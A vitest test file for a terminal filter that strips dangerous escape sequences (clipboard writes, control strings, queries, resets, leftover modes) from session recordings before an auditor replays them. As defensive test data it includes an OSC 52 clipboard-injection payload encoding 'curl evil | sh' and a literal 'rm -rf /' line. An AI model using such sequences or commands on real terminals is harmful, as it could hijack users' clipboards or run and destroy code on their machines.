/**
 * The replay's terminal filter (src/replay/terminal-filter.ts): a recording cannot act on the auditor's
 * terminal — clipboard, titles and their reports, queries the terminal answers, control strings, resets,
 * scrollback erase, modes that outlive the replay — while what a session showed (text, colours, cursor
 * movement, the alternate screen) still plays; a sequence split across events is handled as one.
 */
import { describe, expect, it } from 'vitest';
import { TerminalFilter, filterTerminal } from '../../../src/replay/terminal-filter.js';

const ESC = '\x1b';
const removed = (w: string) => `⟦pcigate removed: ${w}⟧`;

/** Every split of `s` into two chunks gives the same output as the whole. */
function atEverySplit(s: string): string {
  const whole = filterTerminal(s);
  const chars = [...s];
  for (let k = 1; k < chars.length; k++) {
    const f = new TerminalFilter();
    expect(f.push(chars.slice(0, k).join('')) + f.push(chars.slice(k).join('')) + f.reset()).toBe(whole);
  }
  return whole;
}

describe('TerminalFilter', () => {
  it('passes text and display sequences unchanged', () => {
    const s = `$ ls\r\n${ESC}[1;31mred${ESC}[0m\t${ESC}[2J${ESC}[H${ESC}[10;5H${ESC}[K${ESC}[3A${ESC}7${ESC}8 é ✓\b\n`;
    expect(atEverySplit(s)).toBe(s);
  });

  it('removes OSC 52 (clipboard) with a marker, and a title set silently', () => {
    const s = `a${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07b${ESC}]0;user@host: ~${ESC}\\c`;
    expect(atEverySplit(s)).toBe(`a${removed('OSC 52 clipboard access')}bc`);
  });

  it('removes DCS (DECRQSS), APC, PM and SOS, terminated by ST or its C1 form', () => {
    const s = `1${ESC}P$qm${ESC}\\2${ESC}_payload${ESC}\\3${ESC}^pm\u009c4${ESC}Xsos${ESC}\\5`;
    expect(atEverySplit(s)).toBe(`1${removed('DCS control string')}2${removed('APC control string')}3${removed('PM control string')}4${removed('SOS control string')}5`);
  });

  it('removes queries the terminal would answer on stdin, and window reports', () => {
    const s = `${ESC}[6n${ESC}[c${ESC}[>c${ESC}[21t${ESC}[8;100;200t`;
    const out = atEverySplit(s);
    expect(out).not.toContain(ESC);
    expect(out).toContain(removed('CSI n device status report (the terminal answers)'));
    expect(out).toContain(removed('CSI t window manipulation or report'));
  });

  it('removes a full reset (with a marker), the scrollback erase, REP, tab clears and DEC alignment', () => {
    const out = atEverySplit(`x${ESC}c${ESC}[3J${ESC}[2;3J${ESC}[999999999b${ESC}[3g${ESC}#8y`);
    expect(out).toBe(`x${removed('full terminal reset (RIS)')}y`);
  });

  it('drops C1 controls and other C0 controls (BEL, SO/SI) but keeps the text around them', () => {
    expect(atEverySplit('a\u009b31mb\u009d52;c;x\x07c\x0ed\x0fe\x7f')).toBe('a31mb52;c;xcde');
  });

  it('keeps only allowed private modes, and turns off at the end what the recording turned on', () => {
    const out = atEverySplit(`${ESC}[?1049h${ESC}[?25l${ESC}[?1000;1006h${ESC}[?2004hvim${ESC}[5;20r${ESC}(0q${ESC}[1;8;32m`);
    expect(out).toBe(`${ESC}[?1049h${ESC}[?25lvim${ESC}[5;20r${ESC}(0q${ESC}[1;32m${ESC}[?1049l${ESC}[?25h${ESC}[r${ESC}(B${ESC})B${ESC}[0m`);
  });

  it('turns the keypad back to normal at the end when the recording set application keypad mode', () => {
    // less and vim send DECKPAM (ESC =); left on, the auditor's keypad sends escape sequences after the replay.
    expect(atEverySplit(`${ESC}=less`)).toBe(`${ESC}=less${ESC}>`);
    expect(filterTerminal(`${ESC}=x${ESC}>y`)).toBe(`${ESC}=x${ESC}>y`);
  });

  it('keeps colour 8 in an extended colour but drops conceal (SGR 8)', () => {
    expect(filterTerminal(`${ESC}[38;5;8;48;2;8;8;8mx${ESC}[8m`)).toBe(`${ESC}[38;5;8;48;2;8;8;8mx${ESC}[0m`);
  });

  it('an unterminated control string ends at the newline: it cannot hide the rest of the recording', () => {
    expect(atEverySplit(`${ESC}]52;c;AAAA\nrm -rf /\r\n${ESC}Pnever ends`)).toBe(
      `${removed('OSC 52 clipboard access, unterminated')}\nrm -rf /\r\n${removed('DCS control string, unterminated')}`);
  });

  it('an overlong or broken CSI is dropped whole', () => {
    const out = filterTerminal(`a${ESC}[${'1;'.repeat(100)}mb`);
    expect(out).not.toContain(ESC);
    expect(filterTerminal(`x${ESC}[12\x18y`)).toBe('xy');
  });

  it('counts what it removed', () => {
    const f = new TerminalFilter();
    f.push(`${ESC}]0;t\x07${ESC}]0;t\x07${ESC}]52;c;x\x07`);
    expect([...f.removed]).toEqual([['OSC 0', 2], ['OSC 52 clipboard access', 1]]);
  });
});
